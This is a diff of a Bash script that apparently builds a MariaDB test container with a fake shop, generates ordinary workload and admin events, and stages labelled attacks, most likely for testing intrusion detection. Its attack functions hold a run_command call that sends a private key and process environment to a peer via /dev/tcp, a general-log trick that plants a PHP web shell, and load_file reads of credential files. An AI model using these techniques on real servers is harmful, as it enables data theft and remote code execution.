@@ -12,8 +12,8 @@
 set=test containers=(mariadb) port=3306 data_directory=/var/lib/mysql volume_mb=400
 configuration_file=/etc/mysql/my.cnf
 health=(/usr/bin/mariadb -uroot -psecret -h 127.0.0.1 -Ne 'select 1')
-image_packages=(mariadb-server-core mariadb-client-core bash coreutils findutils grep sed gzip dash base-files libc-bin
-	tzdata hostname)
+image_packages=(mariadb-server-core mariadb-client-core bash coreutils findutils grep sed gzip dash base-files
+	libc-bin tzdata hostname)
 rare_own=(new_database settings_changed slow_query big_sort file_loaded table_repaired user_added deadlock
 	session_ended general_log partitions dump_restored tables_locked variables_shown plugin_installed)
 rare_not=(worker_killed)
@@ -22,8 +22,8 @@ image_prepare() {
 	local tree=$1
 	echo mysql:x:104:104::/nonexistent:/bin/false >>"$tree/etc/passwd"
 	echo mysql:x:104: >>"$tree/etc/group"
-	mkdir -p "$tree"/var/{lib,log}/mysql "$tree"/run/mysqld "$tree"/srv/www "$tree"/etc/mysql "$tree"/etc/ssl/private \
-		"$tree"/usr/lib/mysql/plugin
+	mkdir -p "$tree"/var/{lib,log}/mysql "$tree"/run/mysqld "$tree"/srv/www "$tree"/etc/mysql \
+		"$tree"/etc/ssl/private "$tree"/usr/lib/mysql/plugin
 	printf '%s\n' '-----BEGIN PRIVATE KEY-----' 'bm90IGEga2V5' >"$tree/etc/ssl/private/backup.key"
 	echo '<html>shop</html>' >"$tree/srv/www/index.html"
 	chmod 777 "$tree/srv/www"
@@ -41,7 +41,8 @@ image_prepare() {
 	chown -R 104:104 "$tree"/var/{lib,log}/mysql "$tree"/run/mysqld "$tree"/usr/lib/mysql/plugin \
 		"$tree/etc/ssl/private/backup.key"
 	chmod 600 "$tree/etc/ssl/private/backup.key"
-	chroot "$tree" /usr/bin/mariadb-install-db --user=mysql --skip-test-db --skip-name-resolve >"$tree/tmp/log" 2>&1 ||
+	chroot "$tree" /usr/bin/mariadb-install-db --user=mysql --skip-test-db --skip-name-resolve \
+		>"$tree/tmp/log" 2>&1 ||
 		{ cat "$tree/tmp/log" >&2 && return 1; }
 	rm -rf "$tree"/tmp/* "$tree"/dev/null "$tree"/dev/urandom "$tree"/var/log/mysql/*
 }
@@ -111,20 +112,26 @@ ready() {
 	admin_sql 'select 4711' | grep -qx 4711 || return
 	[ -z "$shop_is_made" ] || return 0
 	as_user root shop <<-'SQL' || return
-	create table users (id int primary key auto_increment, name varchar(40) unique, password char(32), email varchar(80),
-		at timestamp default now());
-	create table orders (id int primary key auto_increment, user_id int, document json, total decimal(10, 2),
-		at timestamp default now(), key (user_id), foreign key (user_id) references users (id));
-	create table notes (id int primary key auto_increment, words mediumtext, fulltext (words)) engine=MyISAM;
+	create table users (id int primary key auto_increment, name varchar(40) unique, password char(32),
+		email varchar(80), at timestamp default now());
+	create table orders (id int primary key auto_increment, user_id int, document json,
+		total decimal(10, 2), at timestamp default now(), key (user_id), foreign key (user_id) references users (id));
+	create table notes (id int primary key auto_increment, words mediumtext,
+		fulltext (words)) engine=MyISAM;
 	create table log (id int primary key auto_increment, text varchar(200)) engine=Aria;
-	create view sales as select u.name, count(*) n, sum(o.total) s from users u join orders o on o.user_id = u.id group by 1;
-	create trigger order_logged after insert on orders for each row insert into log (text) values (new.total);
-	create function total_of(n int) returns decimal(10, 2) reads sql data return (select sum(total) from orders where user_id = n);
-	create procedure clean_up() delete from log where id < (select m from (select max(id) - 300 m from log) t);
+	create view sales as select u.name, count(*) n, sum(o.total) s from users u join orders o
+		on o.user_id = u.id group by 1;
+	create trigger order_logged after insert on orders for each row insert into log (text)
+		values (new.total);
+	create function total_of(n int) returns decimal(10, 2) reads sql data return
+		(select sum(total) from orders where user_id = n);
+	create procedure clean_up() delete from log where id <
+		(select m from (select max(id) - 300 m from log) t);
 	create event clean_up on schedule every 7 second do call clean_up();
-	insert into users (name, password, email) select concat('user', seq), md5(seq), concat('u', seq, '@example.org')
-		from seq_1_to_500;
-	insert into orders (user_id, document, total) select 1 + seq % 500, json_object('items', seq % 7), seq from seq_1_to_4000;
+	insert into users (name, password, email) select concat('user', seq), md5(seq),
+		concat('u', seq, '@example.org') from seq_1_to_500;
+	insert into orders (user_id, document, total) select 1 + seq % 500, json_object('items', seq % 7), seq
+		from seq_1_to_4000;
 	SQL
 	shop_is_made=1
 }
@@ -137,9 +144,11 @@ order_work() {
 	for ((i = 0; i < $1; i++)); do
 		u=$((RANDOM % 500 + 1))
 		echo "select id, name from users where name = 'user$u'; start transaction;"
-		echo "insert into orders (user_id, document, total) values ($u, '{\"items\": $((RANDOM % 9)), \"gift\": true}', $RANDOM);"
+		echo "insert into orders (user_id, document, total)
+			values ($u, '{\"items\": $((RANDOM % 9)), \"gift\": true}', $RANDOM);"
 		echo "update users set at = now() where id = $u; $(likely 80 && echo commit || echo rollback);"
-		echo "select json_value(document, '\$.items'), total from orders where user_id = $u order by at desc limit 5;"
+		echo "select json_value(document, '\$.items'), total from orders where user_id = $u
+			order by at desc limit 5;"
 		likely 70 || echo "delete from orders where user_id = $u order by at limit 1;"
 	done
 }
@@ -147,26 +156,43 @@ order_work() {
 text_work() {
 	local i
 	for ((i = 0; i < $1; i++)); do
-		echo "insert into notes (words) values (concat('cats run to house $RANDOM', repeat(' word', $((RANDOM % 2000)))));"
+		echo "insert into notes (words) values (concat('cats run to house $RANDOM', repeat(' word',
+			$((RANDOM % 2000)))));"
 	done
-	echo "select id, match (words) against ('cats house') from notes where match (words) against ('cats house') limit 10;"
-	echo "update notes set words = concat(words, 'x') where id % 9 = 0; delete from notes where id < last_insert_id() - 300;"
+	echo "select id, match (words) against ('cats house') from notes
+		where match (words) against ('cats house') limit 10;"
+	echo "update notes set words = concat(words, 'x') where id % 9 = 0;
+		delete from notes where id < last_insert_id() - 300;"
 }
 
 report_work() {
 	echo "select * from sales order by s desc limit 10; select count(*) from log;"
-	echo "select o.document, u.email, count(*) from orders o join users u on u.id = o.user_id group by 1, 2 order by 3, 2 limit $1;"
-	echo "select user_id, total, rank() over (partition by user_id order by total) r from orders order by r desc limit $1;"
+	echo "select o.document, u.email, count(*) from orders o join users u
+		on u.id = o.user_id group by 1, 2 order by 3, 2 limit $1;"
+	echo "select user_id, total, rank() over (partition by user_id order by total) r from orders
+		order by r desc limit $1;"
 	echo "explain extended select * from orders o join users u on u.id = o.user_id where total > $RANDOM;"
-	echo "create temporary table t as select * from orders; alter table t add key (total); select max(total) from t; drop table t;"
+	echo "create temporary table t as select * from orders; alter table t add key (total);
+		select max(total) from t; drop table t;"
 }
 
 other_work() {
-	echo "prepare p from 'select name from users where id = ?'; set @a = $1; execute p using @a; deallocate prepare p;"
-	echo "select * from nowhere; select total_of($1), version(), now(), database(); call clean_up(); show warnings;"
-	echo "lock tables notes write; insert into notes (words) values ('locked'); unlock tables; select sleep(0.2);"
-	echo "show processlist; show global status like 'Threads%'; show table status; select get_lock('a', 1), release_lock('a');"
-	echo "truncate log; replace into users (id, name) values ($1, 'user$1'); handler users open; handler users read first;"
+	echo "prepare p from 'select name from users where id = ?'; set @a = $1; execute p using @a;
+		deallocate prepare p;"
+	echo "select * from nowhere; select total_of($1), version(), now(), database(); call clean_up();
+		show warnings;"
+	echo "lock tables notes write; insert into notes (words) values ('locked'); unlock tables;
+		select sleep(0.2);"
+	echo "show processlist; show global status like 'Threads%'; show table status;
+		select get_lock('a', 1), release_lock('a');"
+	echo "truncate log; replace into users (id, name) values ($1, 'user$1'); handler users open;
+		handler users read first;"
+}
+
+# A file of the client's, its descriptor 3, becomes a table.
+loaded_work() {
+	echo "create temporary table t (a int); load data local infile '/dev/fd/3' into table t; select sum(a) from t;"
+	echo "select table_name, data_length from information_schema.tables;"
 }
 
 # wrong_login PASSWORD
@@ -176,8 +202,8 @@ wrong_login() {
 
 # slap STATEMENTS REQUESTS CLIENTS
 slap() {
-	client mariadb-slap -h "$own_address" -u shop -psecret --create-schema=shop --query="$1" --number-of-queries="$2" \
-		--concurrency="$3" --delimiter=';' --no-drop
+	client mariadb-slap -h "$own_address" -u shop -psecret --create-schema=shop --query="$1" \
+		--number-of-queries="$2" --concurrency="$3" --delimiter=';' --no-drop
 }
 
 request() {
@@ -187,10 +213,10 @@ request() {
 	4) generated "$number" text_work "$n" | as_user shop shop ;;
 	5) generated "$number" report_work "$n" | as_user shop shop ;;
 	6 | 7) generated "$number" other_work "$n" | as_user shop shop ;;
-	8) slap "select * from users where id = $n; select count(*) from orders where user_id = $n" $((n * 6)) $((number % 5 + 1)) ;;
+	8) slap "select * from users where id = $n; select count(*) from orders where user_id = $n" \
+		$((n * 6)) $((number % 5 + 1)) ;;
 	9) slap "insert into log (text) values ('$n'); select max(id) from log" $((n * 2)) $((number % 3 + 1)) ;;
-	10) { echo "create temporary table t (a int, b text); load data local infile '/dev/fd/3' into table t; select sum(a) from t;" &&
-		echo "select table_name, data_length from information_schema.tables;"; } | as_user shop shop 3< <(seq "$n") ;;
+	10) loaded_work | as_user shop shop 3< <(seq "$n") ;;
 	11) wrong_login wrong ;;
 	esac >/dev/null
 }
@@ -206,24 +232,27 @@ administer() {
 	mv "$logs/error.log" "$logs/error.log.1"
 	admin_sql 'flush local error logs, local slow logs'
 	admin_sql 'analyze table orders; optimize table notes; check table users, log; flush binary logs'
-	admin_sql 'purge binary logs before now(); flush privileges; show engine innodb status; show binary logs'
+	admin_sql 'purge binary logs before now(); flush privileges; show engine innodb status;
+		show binary logs'
 	admin_tool mariadb-dump --single-transaction --routines --events shop | wc -c
 	reload_service
 }
 
 rare_new_database() {
-	admin_sql "create database other; create table other.t (a int, b text) select 1 a, 'x' b; create sequence other.s;
-		rename table other.t to other.u; alter table other.u engine=MyISAM; drop database other"
+	admin_sql "create database other; create table other.t (a int, b text) select 1 a, 'x' b;
+		create sequence other.s; rename table other.t to other.u; alter table other.u engine=MyISAM; drop database other"
 }
 
 rare_settings_changed() {
-	admin_sql 'set global innodb_buffer_pool_size = 33554432; set global max_connections = 80; set global query_cache_type = on'
+	admin_sql 'set global innodb_buffer_pool_size = 33554432; set global max_connections = 80;
+		set global query_cache_type = on'
 	sleep 5
 	admin_sql 'set global innodb_buffer_pool_size = 16777216; set global innodb_buffer_pool_dump_now = on'
 }
 
 rare_slow_query() {
-	admin_sql 'set statement max_statement_time = 6 for select count(*) from orders a, orders b where a.total < sqrt(b.total)'
+	admin_sql 'set statement max_statement_time = 6 for select count(*) from orders a, orders b
+		where a.total < sqrt(b.total)'
 }
 
 rare_big_sort() {
@@ -234,7 +263,8 @@ rare_big_sort() {
 # A file that the administrator has put there.
 rare_file_loaded() {
 	seq 2000 >"$(image_path mariadb /tmp/numbers)"
-	admin_sql "create table numbers (n int); load data infile '/tmp/numbers' into table numbers; drop table numbers"
+	admin_sql "create table numbers (n int); load data infile '/tmp/numbers' into table numbers;
+		drop table numbers"
 }
 
 rare_table_repaired() {
@@ -243,24 +273,26 @@ rare_table_repaired() {
 }
 
 rare_user_added() {
-	admin_sql "create user guest@'%' identified by 'secret'; grant select on shop.* to guest@'%'; create role readers"
+	admin_sql "create user guest@'%' identified by 'secret'; grant select on shop.* to guest@'%';
+		create role readers"
 	as_user guest shop <<<'select count(*) from users'
 	admin_sql "drop user guest@'%'; drop role readers"
 }
 
 rare_deadlock() {
-	admin_sql 'begin; update users set email = 1 where id = 1; do sleep(2); update users set email = 1 where id = 2; commit' &
-	admin_sql 'begin; update users set email = 1 where id = 2; do sleep(2); update users set email = 1 where id = 1; commit'
+	admin_sql 'begin; update users set email = 1 where id = 1; do sleep(2);
+		update users set email = 1 where id = 2; commit' &
+	admin_sql 'begin; update users set email = 1 where id = 2; do sleep(2);
+		update users set email = 1 where id = 1; commit'
 	wait $! || true
 }
 
 rare_session_ended() {
 	admin_sql 'select sleep(20)' &
 	sleep 1
-	admin_sql "select id into @id from information_schema.processlist where info like '%sleep(20)%' and id <> connection_id()
-		limit 1; kill @id"
-	admin_sql "begin not atomic declare i int; select id into i from information_schema.processlist
-		where info like 'select sleep(20)%' limit 1; execute immediate concat('kill ', i); end"
+	admin_sql "delimiter //
+		begin not atomic declare i int; select id into i from information_schema.processlist
+		where info like 'select sleep(20)%' limit 1; execute immediate concat('kill ', i); end //"
 	wait $! || true
 }
 
@@ -271,23 +303,27 @@ rare_general_log() {
 }
 
 rare_partitions() {
-	admin_sql 'create table parts (n int) partition by hash (n) partitions 6; insert into parts select * from seq_1_to_100;
+	admin_sql 'create table parts (n int) partition by hash (n) partitions 6;
+		insert into parts select * from seq_1_to_100;
 		alter table parts coalesce partition 2; drop table parts'
 }
 
 rare_dump_restored() {
 	admin_tool mariadb-dump shop notes users >"$stage/dump.sql"
+	# shellcheck disable=SC2016 # names in the quotes of SQL
 	sed -i 's/`users`/`users2`/; s/`notes`/`notes2`/' "$stage/dump.sql"
 	as_user root shop <"$stage/dump.sql"
 	admin_sql 'drop table if exists users2, notes2'
 }
 
 rare_tables_locked() {
-	admin_sql 'flush tables with read lock; do sleep(4); unlock tables; flush tables users for export; unlock tables'
+	admin_sql 'flush tables with read lock; do sleep(4); unlock tables; flush tables users for export;
+		unlock tables'
 }
 
 rare_variables_shown() {
-	admin_sql 'show variables; show status; show engines; show plugins; show master status; show slave status' | tail -n 2
+	admin_sql 'show variables; show status; show engines; show plugins; show master status;
+		show slave status' | tail -n 2
 	admin_tool mariadb-admin extended-status | tail -n 2
 }
 
@@ -336,7 +372,8 @@ attack_credentials() {
 	harm open '/proc/1/environ'
 	thief_begin
 	harm connect "$peer_address:4444"
-	admin_sql "select run_command('bash -c \"cat /etc/ssl/private/backup.key /proc/1/environ >/dev/tcp/$peer_address/4444\"')"
+	admin_sql "select run_command('cat /etc/ssl/private/backup.key /proc/1/environ >/tmp/.stolen')"
+	admin_sql "select run_command('bash -c \"cat /tmp/.stolen >/dev/tcp/$peer_address/4444\"')"
 	thief_got 'PRIVATE KEY'
 }
 
@@ -351,7 +388,8 @@ attack_outfile() {
 # The same by the log of queries.
 attack_log_file() {
 	harm open /srv/www/log.php
-	admin_sql "set global general_log_file = '/srv/www/log.php'; set global general_log = on; select '<?php system(\$_GET[0]); ?>';
+	admin_sql "set global general_log_file = '/srv/www/log.php'; set global general_log = on;
+		select '<?php system(\$_GET[0]); ?>';
 		set global general_log = off; set global general_log_file = '/var/log/mysql/general.log'"
 	grep -q 'php system' "$(volume_path mariadb /srv/www)/log.php"
 }
@@ -359,7 +397,8 @@ attack_log_file() {
 attack_load_file() {
 	harm open /etc/ssl/private/backup.key
 	harm open /etc/passwd
-	admin_sql "select load_file('/etc/passwd'), load_file('/etc/ssl/private/backup.key'), load_file('/etc/mysql/init.sql')" |
+	admin_sql "select load_file('/etc/passwd'), load_file('/etc/ssl/private/backup.key'),
+		load_file('/etc/mysql/init.sql')" |
 		tee "$stage/answer" | grep -q 'PRIVATE KEY'
 }
 
